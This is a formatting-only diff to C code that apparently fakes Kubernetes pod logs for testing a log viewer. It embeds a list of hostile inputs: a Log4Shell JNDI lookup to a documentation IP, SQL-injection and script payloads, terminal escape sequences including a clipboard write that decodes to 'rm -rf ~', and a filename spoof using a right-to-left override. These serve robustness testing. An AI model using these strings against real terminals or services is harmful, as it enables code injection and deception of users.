@@ -49,14 +49,26 @@ static int64_t line_count(const struct source *s, int64_t now)
     return count;
 }
 
-static const char *const paths[] = {"/", "/index.html", "/static/js/main.7c1f0a.js", "/static/css/main.c3d2e1.css", "/favicon.ico", "/manifest.json", "/cart",
-                                    "/products/41", "/login"};
-static const char *const calls[] = {"/api/v1/orders", "/api/v1/products?page=2", "/api/v1/products/41", "/api/v1/session", "/api/v1/cart", "/healthz", "/api/v1/users/me"};
-static const char *const agents[] = {"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0", "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)",
-                                     "ELB-HealthChecker/2.0", "Amazon CloudFront", "curl/8.11.0"};
+static const char *const paths[] = {
+    "/",     "/index.html", "/static/js/main.7c1f0a.js", "/static/css/main.c3d2e1.css", "/favicon.ico", "/manifest.json", "/cart", "/products/41",
+    "/login"};
+static const char *const calls[] = {"/api/v1/orders", "/api/v1/products?page=2", "/api/v1/products/41", "/api/v1/session", "/api/v1/cart",
+                                    "/healthz",       "/api/v1/users/me"};
+static const char *const agents[] = {"Mozilla/5.0 (X11; Linux x86_64; rv:145.0) Gecko/20100101 Firefox/145.0",
+                                     "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)", "ELB-HealthChecker/2.0", "Amazon CloudFront",
+                                     "curl/8.11.0"};
 /* As they arrive: terminal titles, cleared screens, reversed and invisible text, broken UTF-8. */
-static const char *const hostile[] = {"\x1b]0;owned\x07", "\x1b[2J\x1b[1;1H\x1b[32mall systems normal\x1b[0m", "\xe2\x80\xae" "gpj.exe", "\xff\xfe\xc0\xaf..", "${jndi:ldap://203.0.113.9/a}",
-                                      "' OR 1=1 --\xe2\x80\x8b", "\x1b[8m\x1b]52;c;cm0gLXJmIH4=\x07", "\xc2\x9b" "31m<script>alert(1)</script>", "\rroot logged in\b\b\b"};
+static const char *const hostile[] = {"\x1b]0;owned\x07",
+                                      "\x1b[2J\x1b[1;1H\x1b[32mall systems normal\x1b[0m",
+                                      "\xe2\x80\xae"
+                                      "gpj.exe",
+                                      "\xff\xfe\xc0\xaf..",
+                                      "${jndi:ldap://203.0.113.9/a}",
+                                      "' OR 1=1 --\xe2\x80\x8b",
+                                      "\x1b[8m\x1b]52;c;cm0gLXJmIH4=\x07",
+                                      "\xc2\x9b"
+                                      "31m<script>alert(1)</script>",
+                                      "\rroot logged in\b\b\b"};
 
 #define PICK(list, salt) (list)[kube_hash(s->key, (uint64_t)line * 8 + (salt)) % (sizeof(list) / sizeof *(list))]
 
@@ -65,8 +77,12 @@ static void nginx_line(const struct source *s, int64_t line, int64_t at, struct 
     uint32_t dice = kube_hash(s->key, (uint64_t)line * 8 + 1);
     char stamp[40];
     bool bad = dice % 47 == 0;
-    str_addf(out, "10.0.%u.%u - - [%s] \"GET %s%s HTTP/1.1\" %d %u \"-\" \"%s\"", 11 + dice % 2, 20 + dice % 200, when_iso(at, stamp, sizeof stamp), PICK(paths, 2),
-             bad ? PICK(hostile, 3) : "", bad ? 404 : dice % 31 == 0 ? 304 : 200, 200 + dice % 90000, dice % 61 == 0 ? PICK(hostile, 4) : PICK(agents, 4));
+    str_addf(out, "10.0.%u.%u - - [%s] \"GET %s%s HTTP/1.1\" %d %u \"-\" \"%s\"", 11 + dice % 2, 20 + dice % 200, when_iso(at, stamp, sizeof stamp),
+             PICK(paths, 2), bad ? PICK(hostile, 3) : "",
+             bad              ? 404
+             : dice % 31 == 0 ? 304
+                              : 200,
+             200 + dice % 90000, dice % 61 == 0 ? PICK(hostile, 4) : PICK(agents, 4));
 }
 
 static void flask_line(const struct source *s, int64_t line, int64_t at, struct str *out)
@@ -79,18 +95,23 @@ static void flask_line(const struct source *s, int64_t line, int64_t at, struct 
     else if (dice % 53 == 0)
         str_addf(out, "%s ERROR app.session login failed user=\"%s\" remote=198.51.100.%u", stamp, PICK(hostile, 3), dice % 250);
     else
-        str_addf(out, "%s INFO gunicorn.access %s %s %d %ums trace=%08x", stamp, dice % 5 == 0 ? "POST" : "GET", PICK(calls, 2), dice % 211 == 0 ? 500 : 200,
-                 3 + dice % 180, dice);
+        str_addf(out, "%s INFO gunicorn.access %s %s %d %ums trace=%08x", stamp, dice % 5 == 0 ? "POST" : "GET", PICK(calls, 2),
+                 dice % 211 == 0 ? 500 : 200, 3 + dice % 180, dice);
 }
 
 static void klog_line(const struct source *s, int64_t line, int64_t at, struct str *out)
 {
-    static const char *const words[] = {"Reconciling", "Successfully synced", "Cache is up to date", "Applying desired state", "Watch closed, starting again",
-                                        "Lease renewed", "All records are already up to date"};
+    static const char *const words[] = {"Reconciling",
+                                        "Successfully synced",
+                                        "Cache is up to date",
+                                        "Applying desired state",
+                                        "Watch closed, starting again",
+                                        "Lease renewed",
+                                        "All records are already up to date"};
     char stamp[40];
     when_iso_ms(at, stamp, sizeof stamp);
-    str_addf(out, "I%.2s%.2s %.12s       1 controller.go:%u] \"%s\" controller=\"%s\"", stamp + 5, stamp + 8, stamp + 11, 90 + kube_hash(s->key, (uint64_t)line) % 300,
-             PICK(words, 2), s->name);
+    str_addf(out, "I%.2s%.2s %.12s       1 controller.go:%u] \"%s\" controller=\"%s\"", stamp + 5, stamp + 8, stamp + 11,
+             90 + kube_hash(s->key, (uint64_t)line) % 300, PICK(words, 2), s->name);
 }
 
 static void boot_line(const struct source *s, int64_t line, int64_t at, struct str *out)
@@ -122,7 +143,8 @@ static void one_line(const struct source *s, int64_t line, bool stamps, struct s
 
 static void last_words(const struct source *s, bool stamps, struct str *out)
 {
-    static const char *const words[] = {"Traceback (most recent call last):", "  File \"/app/wsgi.py\", line 41, in main", "    pool = connect(settings.database_url, timeout=5)",
+    static const char *const words[] = {"Traceback (most recent call last):", "  File \"/app/wsgi.py\", line 41, in main",
+                                        "    pool = connect(settings.database_url, timeout=5)",
                                         "psycopg.OperationalError: connection timeout expired"};
     char stamp[40];
     if (!s->crashed || strcmp(s->reason, "OOMKilled") == 0)
@@ -150,7 +172,7 @@ static void names_of(const struct kube_pod *p, struct str *out)
 {
     size_t i;
     json_t *row;
-    json_array_foreach(json_object_get(p->template->spec, "containers"), i, row)
+    json_array_foreach (json_object_get(p->template->spec, "containers"), i, row)
         str_addf(out, "%s%s", i ? " " : "", json_text_or(row, "name", ""));
 }
 
@@ -254,8 +276,15 @@ static void follower_closed(void *arg)
 static void follow(struct kube_call *c, const struct kube_object *pod, const struct source *s, int64_t line, int64_t bytes_left, bool stamps)
 {
     struct kube_follower *f = mem_new(sizeof *f);
-    *f = (struct kube_follower){.k = c->k, .next = c->k->followers, .ns = mem_strdup(pod->ns), .pod = mem_strdup(pod->name), .container = mem_strdup(s->name),
-                                .started_at = s->from, .line = line, .bytes_left = bytes_left, .stamps = stamps};
+    *f = (struct kube_follower){.k = c->k,
+                                .next = c->k->followers,
+                                .ns = mem_strdup(pod->ns),
+                                .pod = mem_strdup(pod->name),
+                                .container = mem_strdup(s->name),
+                                .started_at = s->from,
+                                .line = line,
+                                .bytes_left = bytes_left,
+                                .stamps = stamps};
     text_copy(f->uid, sizeof f->uid, pod->uid);
     if (f->next)
         f->next->previous = f;
